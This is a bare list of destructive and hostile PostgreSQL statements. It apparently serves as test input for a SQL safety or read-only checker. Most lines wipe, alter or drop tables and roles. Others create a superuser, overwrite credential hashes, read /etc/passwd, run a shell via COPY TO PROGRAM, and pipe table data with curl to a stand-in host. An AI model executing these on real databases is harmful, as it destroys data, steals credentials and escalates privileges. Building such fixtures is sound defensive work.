DELETE FROM accounts
DELETE FROM accounts WHERE true
DELETE FROM statuses WHERE id > 5
DELETE FROM statuses WHERE created_at < now()
DELETE FROM statuses WHERE created_at < now() + interval '1 day'
DELETE FROM statuses s USING accounts a WHERE a.id = s.account_id
DELETE FROM statuses s USING accounts a WHERE a.id = s.account_id AND a.domain IS NOT NULL
DELETE FROM follows WHERE account_id <> target_id
DELETE FROM follows WHERE (account_id, target_id) IN (SELECT account_id, target_id FROM follows)
DELETE FROM sessions WHERE expires_at < now()
DELETE FROM sessions WHERE token LIKE 'tok%'
DELETE FROM sessions WHERE token ~ '.'
DELETE FROM sessions WHERE length(token) > 0
DELETE FROM accounts WHERE id = ANY (ARRAY(SELECT id FROM accounts))
DELETE FROM accounts WHERE id = ANY (SELECT account_id FROM sessions)
DELETE FROM accounts WHERE EXISTS (SELECT 1 FROM statuses WHERE account_id = accounts.id)
DELETE FROM accounts WHERE NOT EXISTS (SELECT 1 FROM credentials WHERE credentials.kind='x' AND account_id = accounts.id)
DELETE FROM accounts WHERE id NOT IN (1,2,3)
DELETE FROM accounts WHERE username IS NOT NULL
DELETE FROM accounts WHERE coalesce(suspended_at, now()) IS NOT NULL
DELETE FROM accounts WHERE id % 2 = 0
DELETE FROM accounts WHERE locked = false
DELETE FROM accounts WHERE NOT locked
DELETE FROM accounts WHERE (locked OR NOT locked)
DELETE FROM accounts WHERE settings = '{}'
DELETE FROM accounts WHERE settings @> '{}'
DELETE FROM accounts WHERE username BETWEEN 'a' AND 'z'
DELETE FROM accounts WHERE ctid IS NOT NULL
DELETE FROM accounts WHERE xmin::text <> '0'
DELETE FROM accounts WHERE tableoid = 'accounts'::regclass
DELETE FROM invoices WHERE status IN ('paid','open','void')
DELETE FROM invoices WHERE total >= 0
DELETE FROM invoices i WHERE i.customer_id IN (SELECT customer_id FROM invoices GROUP BY 1 HAVING count(*) > 1)
DELETE FROM active_accounts
DELETE FROM active_accounts WHERE domain IS NOT NULL
DELETE FROM event_log
DELETE FROM event_log WHERE at < '2025-01-01'
DELETE FROM event_log_2024 WHERE kind LIKE 'k%'
DELETE FROM ONLY audit
DELETE FROM audit WHERE actor = 'a'
UPDATE accounts SET email = NULL
UPDATE accounts SET email = 'x' WHERE email LIKE '%@%'
UPDATE accounts SET suspended_at = now() WHERE suspended_at IS NULL
UPDATE accounts SET locked = true WHERE id > 0 AND id < 1000000
UPDATE invoices SET total = total * 1.1 WHERE status = 'open'
UPDATE invoices SET status = 'void' FROM invoice_lines l WHERE l.invoice_id = invoices.id
UPDATE credentials SET secret_hash = 'owned'
UPDATE credentials SET secret_hash = 'owned' WHERE kind = 'password'
UPDATE feature_flags SET enabled = false
UPDATE projects SET archived = true WHERE namespace_id < 90
UPDATE projects p SET star_count = 0 FROM (SELECT id FROM projects) q WHERE q.id = p.id
UPDATE ci_builds SET status = 'canceled' WHERE status IN ('running','pending')
UPDATE statuses SET deleted_at = now() WHERE visibility BETWEEN 0 AND 3
WITH d AS (DELETE FROM audit RETURNING 1) SELECT count(*) FROM d
WITH d AS (SELECT id FROM statuses) DELETE FROM statuses USING d WHERE d.id = statuses.id
WITH RECURSIVE r AS (SELECT id FROM statuses WHERE in_reply_to_id IS NULL UNION SELECT s.id FROM statuses s JOIN r ON s.in_reply_to_id=r.id) DELETE FROM statuses WHERE id IN (SELECT id FROM r)
MERGE INTO accounts a USING statuses s ON s.account_id = a.id WHEN MATCHED THEN DELETE
MERGE INTO credentials c USING accounts a ON a.id = c.account_id WHEN MATCHED THEN UPDATE SET secret_hash = ''
MERGE INTO accounts a USING (SELECT 1) s ON true WHEN NOT MATCHED BY SOURCE THEN DELETE WHEN MATCHED THEN DO NOTHING
MERGE INTO tiny t USING (VALUES (1)) v(id) ON t.id=v.id WHEN NOT MATCHED BY SOURCE THEN DELETE
INSERT INTO accounts(id,username) SELECT id,username FROM accounts ON CONFLICT (id) DO UPDATE SET email = NULL
INSERT INTO feature_flags SELECT key, false, '{}' FROM feature_flags ON CONFLICT (key) DO UPDATE SET enabled = excluded.enabled
TRUNCATE accounts CASCADE
TRUNCATE TABLE tiny
TRUNCATE ONLY audit RESTART IDENTITY
TRUNCATE event_log_2024
DROP TABLE accounts
DROP TABLE IF EXISTS sessions, credentials CASCADE
DROP VIEW active_accounts
DROP MATERIALIZED VIEW account_stats
DROP SCHEMA public CASCADE
DROP DATABASE postgres
DROP OWNED BY CURRENT_USER
DROP EXTENSION plpgsql CASCADE
DROP FUNCTION purge_account(bigint)
DROP INDEX statuses_account_id_idx
DROP SEQUENCE accounts_id_seq CASCADE
REASSIGN OWNED BY postgres TO pg_read_all_data
ALTER TABLE accounts DROP COLUMN email
ALTER TABLE accounts ALTER COLUMN email TYPE int USING 0
ALTER TABLE accounts ALTER COLUMN email TYPE varchar(3)
ALTER TABLE accounts RENAME TO accounts_old
ALTER TABLE accounts RENAME COLUMN email TO mail
ALTER TABLE accounts SET SCHEMA pg_temp
ALTER TABLE accounts DISABLE TRIGGER ALL
ALTER TABLE accounts DROP CONSTRAINT accounts_pkey CASCADE
ALTER TABLE accounts DISABLE ROW LEVEL SECURITY
ALTER TABLE accounts OWNER TO pg_read_all_data
ALTER TABLE event_log DETACH PARTITION event_log_2024
ALTER TABLE accounts SET UNLOGGED
ALTER SYSTEM SET fsync = off
ALTER DATABASE postgres RENAME TO x
ALTER ROLE postgres PASSWORD 'x'
ALTER ROLE postgres SET search_path = evil
ALTER USER postgres NOLOGIN
ALTER SEQUENCE accounts_id_seq RESTART WITH 1
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC
CREATE ROLE hacker SUPERUSER LOGIN PASSWORD 'x'
GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC
GRANT pg_execute_server_program TO PUBLIC
REVOKE ALL ON accounts FROM PUBLIC
CREATE RULE r AS ON INSERT TO audit DO INSTEAD NOTHING
CREATE RULE r AS ON SELECT TO tiny DO INSTEAD SELECT 1,'x'::text
CREATE TRIGGER t BEFORE UPDATE ON accounts FOR EACH ROW EXECUTE FUNCTION touch()
CREATE OR REPLACE FUNCTION fullname(a accounts) RETURNS text LANGUAGE sql AS $$ DELETE FROM accounts; SELECT 'x' $$
CREATE POLICY p ON accounts USING (true)
CREATE FUNCTION evil() RETURNS void LANGUAGE c AS '/tmp/x.so','f'
CREATE EXTENSION dblink
CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw
COPY accounts TO '/tmp/out'
COPY accounts TO PROGRAM 'curl -d @- http://x'
COPY (SELECT 1) TO PROGRAM 'sh'
COPY tiny FROM '/etc/passwd'
COPY tiny FROM PROGRAM 'id'
SELECT pg_read_file('/etc/passwd')
SELECT lo_import('/etc/passwd')
SELECT lo_export(1,'/tmp/x')
SELECT pg_ls_dir('/')
SELECT pg_terminate_backend(pid) FROM pg_stat_activity
SELECT pg_cancel_backend(1)
SELECT pg_reload_conf()
SELECT pg_switch_wal()
SELECT wipe()
SELECT wipe() FROM generate_series(1,2)
SELECT * FROM tiny WHERE v = (SELECT wipe()::text)
SELECT dyn('accounts')
SELECT query_to_xml('delete from accounts',true,true,'')
SELECT purge_account(id) FROM accounts
SELECT setval('accounts_id_seq', 1)
SELECT set_config('session_replication_role','replica',false)
SET session_replication_role = replica
SET ROLE pg_write_all_data
SET SESSION AUTHORIZATION postgres
SELECT pg_drop_replication_slot('x')
SELECT pg_stat_reset()
DO $$ BEGIN DELETE FROM accounts; END $$
DO $$ BEGIN EXECUTE 'dr'||'op table accounts'; END $$
DO $$ DECLARE r record; BEGIN FOR r IN SELECT id FROM accounts LOOP DELETE FROM accounts WHERE id=r.id; END LOOP; END $$
CALL archive_old()
EXPLAIN ANALYZE DELETE FROM accounts
EXPLAIN (ANALYZE, COSTS off) UPDATE accounts SET email = 'x'
PREPARE p AS DELETE FROM accounts; EXECUTE p
LOCK TABLE accounts IN ACCESS EXCLUSIVE MODE
LOCK accounts
VACUUM FULL accounts
CLUSTER accounts USING accounts_pkey
REINDEX TABLE accounts
CREATE INDEX ON statuses(text)
REFRESH MATERIALIZED VIEW account_stats
SELECT 1; DROP TABLE accounts
BEGIN; DELETE FROM accounts; COMMIT
CREATE TABLE x AS SELECT wipe()
SELECT * INTO stolen FROM credentials
COMMENT ON TABLE accounts IS NULL; TRUNCATE audit
SECURITY LABEL ON TABLE accounts IS 'x'
IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public
CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION touch()
CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p
CREATE PUBLICATION p FOR ALL TABLES
CREATE CAST (text AS int) WITH INOUT AS IMPLICIT
UPDATE pg_class SET relname = 'x' WHERE relname='accounts'
DELETE FROM pg_proc WHERE oid = 16384
LOAD '/tmp/x.so'
NOTIFY cache_flush; DELETE FROM sessions
DELETE FROM statuses WHERE account_id IN (1,2,3) OR visibility >= 0
DELETE FROM statuses WHERE CASE WHEN visibility = 0 THEN true ELSE true END
DELETE FROM statuses WHERE id IN (SELECT id FROM statuses ORDER BY id LIMIT 50000)
DELETE FROM statuses WHERE id >= (SELECT min(id) FROM statuses)
DELETE FROM statuses WHERE id <= (SELECT max(id) FROM statuses)
DELETE FROM statuses WHERE lang = 'de'
DELETE FROM statuses WHERE random() < 0.9
DELETE FROM statuses WHERE (SELECT true)
DELETE FROM statuses WHERE id = id
DELETE FROM statuses WHERE id IS DISTINCT FROM NULL
DELETE FROM statuses WHERE ROW(id) IS NOT NULL
DELETE FROM statuses WHERE md5(text) <> ''
DELETE FROM statuses WHERE text ILIKE '%t%'
DELETE FROM statuses WHERE text SIMILAR TO '%'
DELETE FROM statuses WHERE position('t' in text) > 0
DELETE FROM statuses WHERE extract(year from created_at) > 2000
DELETE FROM statuses WHERE created_at::date <= current_date
